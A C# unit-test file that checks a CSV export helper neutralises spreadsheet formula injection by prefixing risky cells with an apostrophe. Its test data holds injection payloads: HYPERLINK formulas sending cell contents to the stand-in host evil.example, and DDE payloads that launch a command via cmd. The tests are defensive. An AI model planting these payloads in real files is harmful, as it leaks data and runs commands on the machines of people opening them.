using System.Text;
using TalentPool.Http;

namespace TalentPool.Tests.Edge;

/// <summary>No cell of a table that leaves the house is a formula, however it is disguised.</summary>
public sealed class CsvSheetTests
{
    public static TheoryData<string> Formulas
    {
        get
        {
            TheoryData<string> all = [];
            foreach (var sign in new[] { "=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−", "\t", "\r", "\n" })
                foreach (var disguise in new[] { "", " ", "　", "\u00A0", "\u200B", "\uFEFF", "\u2060", "\u202E", "\0", " \u200B " })
                    all.Add($"{disguise}{sign}HYPERLINK(\"https://evil.example?\"&A1)");
            foreach (var text in new[] { "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+81-3-1234-5678", "-1-1", "--1", "@SUM(1)", "-", "-1e5x" }) all.Add(text);
            return all;
        }
    }

    [Theory, MemberData(nameof(Formulas))]
    public void A_formula_becomes_text(string cell)
    {
        Assert.Equal("'" + cell, CsvSheet.Cell(cell));
        var written = Encoding.UTF8.GetString(CsvSheet.Write(["見出し", "次"], [[cell, "次"]]));
        Assert.StartsWith("\uFEFF見出し", written, StringComparison.Ordinal);
        var line = written[(written.IndexOf('\n', StringComparison.Ordinal) + 1)..];
        Assert.True(line.StartsWith('\'') || line.StartsWith("\"'", StringComparison.Ordinal), line);
    }

    [Theory]
    [InlineData("")]
    [InlineData(" ")]
    [InlineData("山田 花子")]
    [InlineData("-5")]
    [InlineData("-5.25")]
    [InlineData("2026-11-24 12:00:00")]
    [InlineData("a=b")]
    [InlineData("メール: a@b.example")]
    [InlineData("'=1")]
    public void Other_text_stays_as_it_is(string cell) => Assert.Equal(cell, CsvSheet.Cell(cell));

    [Fact]
    public void A_heading_is_a_cell_too() => Assert.Contains("'=1", Encoding.UTF8.GetString(CsvSheet.Write(["=1"], [])), StringComparison.Ordinal);
}
